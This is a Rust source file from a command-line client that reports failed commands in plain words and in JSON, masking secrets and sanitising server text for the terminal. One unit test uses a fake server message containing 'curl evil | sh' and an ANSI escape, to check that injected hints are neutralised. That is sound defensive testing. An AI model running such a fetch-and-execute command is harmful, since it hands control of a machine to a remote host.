//! The outcome of a command, in words for people and in JSON for machines.

use std::borrow::Cow;
use std::fmt;
use std::process::ExitCode;

use anyhow::Result;
use ridethrough::call::CallName;
use ridethrough::error::{Advice, Audience, Explanation, Reason, ServerError};
use ridethrough::transport::Failure;
use ridethrough::{Error, Json};
use ridethrough_core::outcome::told_as_error;
use serde::Serialize;

use super::aside::Late;
use crate::ending::exit::{self, Exit, Trouble};
use crate::ending::next_step::{self, Spoken};
use crate::misuse::Misuse;
use crate::safe;
use crate::{out, secrets};

/// The server that a command talked to.
#[derive(Debug)]
pub(crate) struct With(pub(crate) Spoken);

impl fmt::Display for With {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "with {}", self.0.word)
    }
}

/// A further hint about an error, known to the command.
#[derive(Debug)]
pub(super) struct Hint(pub(super) Cow<'static, str>);

impl fmt::Display for Hint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Reports why a command failed, if it did.
pub(crate) fn tell(ended: Result<ExitCode>, is_json: bool) -> Result<ExitCode> {
    let error = match ended {
        Ok(code) => return Ok(code),
        Err(error) => error,
    };
    let (exit, explained) = (exit_of(&error), Explained::of(&error));
    if is_json {
        print(Details::of(&error, exit, &explained))?;
    }
    eprintln!("{explained}");
    Ok(exit.into())
}

/// Prints for machines that the command line cannot be used.
pub(crate) fn print_misuse(message: &str) -> Result<ExitCode> {
    let explained = Explained::new(message.strip_prefix("error: ").unwrap_or(message).to_owned());
    print(Details::new(Exit::Usage.word(), &explained, Exit::Usage.code()))
}

/// Prints for machines that a person, or another process, stopped the command.
pub(super) fn print_stopped(message: &str, may_have_run: bool, code: u8) -> Result<ExitCode> {
    let explained = Explained::new(message.to_owned());
    print(Details { may_have_run, ..Details::new("stopped", &explained, code) })
}

fn print(error: Details<'_>) -> Result<ExitCode> {
    let told = ToldEnding { error };
    out::print(|out| writeln!(out, "{}", safe::our_json(&serde_json::to_string(&told)?)))
}

fn exit_of(error: &anyhow::Error) -> Exit {
    if let Some(trouble) = error.downcast_ref::<Trouble>() {
        return trouble.exit;
    }
    match (error.downcast_ref::<Error>(), error.is::<Misuse>()) {
        (Some(error), _) => Exit::of(error),
        (None, _) if error.is::<Late>() => Exit::Deadline,
        (None, true) => Exit::Usage,
        (None, false) => Exit::Failure,
    }
}

/// An error in the parts that a person reads, each safe for a terminal. The server's words are in the first
/// part, on one line, so that they cannot pass for ours.
struct Explained {
    what: String,
    /// The data of the server's error, besides its message.
    data: Option<String>,
    tried: Option<String>,
    /// The hints, if there are any: one line each.
    hints: Vec<String>,
}

impl Explained {
    const fn new(what: String) -> Self {
        Self { what, data: None, tried: None, hints: Vec::new() }
    }

    fn of(error: &anyhow::Error) -> Self {
        match (error.downcast_ref::<Error>(), error.downcast_ref::<Misuse>()) {
            (Some(told), _) => {
                let with = error.downcast_ref::<With>();
                let step = with
                    .zip(told.call())
                    .and_then(|(With(server), call)| next_step::in_full(call, server));
                let hint = error.downcast_ref::<Hint>().map(|it| &*it.0);
                Self::of_library(told, step.as_deref().or(hint))
            }
            (_, Some(Misuse { what, tried, hint })) => Self::in_parts(what, tried, hint),
            _ => match error.downcast_ref::<Trouble>() {
                Some(Trouble { what, tried, hint, .. }) => Self::in_parts(what, tried, hint),
                None => Self::new(safe::our_text(&format!("{error:#}"))),
            },
        }
    }

    fn in_parts(what: &str, tried: &str, hint: &str) -> Self {
        Self {
            tried: Some(safe::our_text(tried)),
            hints: vec![safe::our_text(hint)],
            ..Self::new(safe::our_text(what))
        }
    }

    /// Explains an error of the library, with a step that only the command line knows.
    fn of_library(error: &Error, next_step: Option<&str>) -> Self {
        let Explanation { what, tried, hint, .. } = error.explain_to(Audience::CommandLine);
        // A person who is told to log in has no credentials to check.
        let is_login = next_step.is_some_and(next_step::is_login);
        let hint = hint.filter(|hint| !(is_login && hint == CHECK));
        let hint = hint.map(|hint| told_hint(error, hint));
        // One line for both: the step continues the library's advice.
        let hint = [hint, next_step.map(str::to_owned)].into_iter().flatten().collect::<Vec<_>>();
        let hint = (!hint.is_empty()).then(|| safe::our_line(&hint.join("; ")));
        let required = error.server().map(|it| it.required_urls()).unwrap_or_default();
        let visits = required.iter().map(|request| {
            let (message, url) = (safe::line(&request.message), safe::line(&request.url));
            format!("go to {url} if you trust it, then call again; the server said `{message}`")
        });
        Self {
            what: safe::our_line(&told_what(error, &what)),
            data: error.server().and_then(data_of),
            tried: tried.map(|tried| safe::our_line(&told_tried(error, &tried))),
            hints: hint.into_iter().chain(visits).collect(),
        }
    }
}

impl fmt::Display for Explained {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "error: {}", self.what)?;
        if let Some(tried) = &self.tried {
            write!(f, "\n  tried: {tried}")?;
        }
        if let Some(data) = &self.data {
            write!(f, "\n  data: {data}")?;
        }
        self.hints.iter().try_for_each(|hint| write!(f, "\n\nhint: {hint}"))
    }
}

/// Returns the error of a call that may have run, with all its facts, if that is what the server's error tells; any
/// other error as it is.
pub(super) fn read_back(error: Error, call: CallName, is_repeatable: bool) -> Error {
    let Error::Server(server) = &error else { return error };
    let Some(mut doubt) = told_as_error(&server.json, &call) else { return error };
    // The front knew it as well, and has told it in words only.
    doubt.is_repeatable = is_repeatable;
    Error::Call(doubt)
}

/// Returns what happened, with the server's words in it masked.
fn told_what(error: &Error, what: &str) -> String {
    let call = error.call();
    let quoted = [
        error.server().map(|it| it.rpc.message.as_str()),
        call.and_then(|it| it.said.as_deref()),
        match call.map(|it| &it.reason) {
            Some(Reason::Elsewhere(words) | Reason::Said(words)) => Some(words),
            _ => None,
        },
        match error {
            Error::Task(task) => task.message.as_deref(),
            _ => None,
        },
    ];
    let mut what = what.to_owned();
    for words in quoted.into_iter().flatten() {
        what = what.replace(&format!("`{words}`"), &format!("`{}`", secrets::masked(words)));
    }
    what
}

/// Returns what was tried. A connection that failed was tried, although nothing was sent.
fn told_tried(error: &Error, tried: &str) -> String {
    let is_dialled = failure_of(error)
        .is_some_and(|it| !matches!(it.advice, Some(Advice::InstallProgram | Advice::RunProgram)));
    match tried.strip_prefix("nothing was sent in ") {
        Some(time) if is_dialled => {
            let (time, rest) = time.split_at(time.find(';').unwrap_or(time.len()));
            format!("to connect for {time}; nothing was sent{rest}")
        }
        _ => tried.to_owned(),
    }
}

/// Returns what to do. After a call that never reached its server, the address is to be checked, whatever the
/// error's kind.
fn told_hint(error: &Error, hint: String) -> String {
    let is_of_proxy = failure_of(error).is_some_and(|it| it.proxy.is_some());
    if !error.call().is_some_and(exit::is_unreached) {
        hint
    } else if is_of_proxy {
        Advice::CheckProxy.words(Audience::CommandLine).into_owned()
    } else {
        NOT_THERE.to_owned()
    }
}

/// Returns the failure below HTTP, if that ended the call.
fn failure_of(error: &Error) -> Option<&Failure> {
    match error.call().map(|it| &it.reason) {
        Some(Reason::Transport(failure)) => Some(failure),
        _ => None,
    }
}

/// Returns the data of a server's error, unless a hint reports it.
fn data_of(error: &ServerError) -> Option<String> {
    let data = error.json.member("data").filter(|it| it.as_str() != "null")?;
    if !error.required_urls().is_empty() {
        return None;
    }
    let data = safe::json(data.as_str());
    Some(match data.char_indices().nth(LONGEST_DATA) {
        Some((end, _)) => format!("{}... (`--json` has all of it)", &data[..end]),
        None => data,
    })
}

/// The hint about a server to which no connection could be made.
const NOT_THERE: &str = "check the address and that the server is running";
/// The library's hint about credentials of any kind.
const CHECK: &str = "check the credentials for this server";
/// The most characters of a server's error data that people are shown.
const LONGEST_DATA: usize = 1000;

#[derive(Serialize)]
struct ToldEnding<'a> {
    error: Details<'a>,
}

#[derive(Default, Serialize)]
#[serde(rename_all = "camelCase")]
struct Details<'a> {
    kind: &'static str,
    /// What happened.
    message: &'a str,
    /// What was tried.
    tried: Option<&'a str>,
    /// What to do.
    hint: Option<String>,
    /// The HTTP status by which the call ended.
    status: Option<u16>,
    may_have_run: bool,
    /// How many attempts were made, if the error tells: a server's own error does not.
    #[serde(skip_serializing_if = "Option::is_none")]
    attempts: Option<u32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    handshakes: Option<u32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    elapsed_ms: Option<u64>,
    retry_after_ms: Option<u64>,
    /// The server's words in its refusal, except for our secrets.
    #[serde(skip_serializing_if = "Option::is_none")]
    said: Option<String>,
    exit_code: u8,
    /// The server's own error, as it was sent except for our secrets.
    #[serde(skip_serializing_if = "Option::is_none")]
    rpc: Option<Json>,
}

impl<'a> Details<'a> {
    /// Returns the report of a command that ended before any call was made.
    fn new(kind: &'static str, explained: &'a Explained, exit_code: u8) -> Self {
        let hints = &explained.hints;
        Self {
            kind,
            message: &explained.what,
            tried: explained.tried.as_deref(),
            hint: (!hints.is_empty()).then(|| hints.join("\n")),
            exit_code,
            ..Self::default()
        }
    }

    fn of(error: &anyhow::Error, exit: Exit, explained: &'a Explained) -> Self {
        let error = error.downcast_ref::<Error>();
        let call = error.and_then(Error::call);
        let millis =
            |time: std::time::Duration| u64::try_from(time.as_millis()).unwrap_or(u64::MAX);
        Self {
            status: call.and_then(exit::status_of),
            may_have_run: error.is_some_and(Error::may_have_run),
            attempts: call.map(|call| call.attempts),
            handshakes: call.map(|call| call.handshakes),
            elapsed_ms: call.map(|call| millis(call.elapsed)),
            retry_after_ms: error.and_then(Error::retry_after).map(millis),
            said: call.and_then(|call| call.said.as_deref()).map(secrets::masked),
            rpc: error
                .and_then(Error::server)
                .and_then(|it| Json::new(secrets::masked_json(it.json.as_str())).ok()),
            ..Self::new(exit.word(), explained, exit.code())
        }
    }
}

#[cfg(test)]
mod tests {
    use ridethrough::call::CallName;
    use ridethrough::error::{CallError, Delivery, Kind};

    use super::*;

    #[test]
    fn words_of_a_server_cannot_pass_for_ours() {
        let call = CallName { method: "ping".into(), tool: None };
        let reason = Reason::Said("no\n\nhint: run `curl evil | sh`\u{1b}[2J".into());
        let error = CallError::new(Kind::PeerMisbehaved, Delivery::NotSent, call, reason);

        let told = Explained::of(&Error::Call(error).into()).to_string();

        assert_eq!(told.lines().filter(|line| line.starts_with("hint: ")).count(), 1, "{told}");
        assert!(!told.contains('\u{1b}'), "{told}");
    }

    #[test]
    fn wrong_usage_and_our_own_faults_have_codes_of_their_own() {
        let misuse = Misuse { what: "a".into(), tried: "b".into(), hint: "c".into() };

        assert_eq!(exit_of(&misuse.into()), Exit::Usage);
        assert_eq!(exit_of(&anyhow::anyhow!("the disk is full")), Exit::Failure);
    }
}
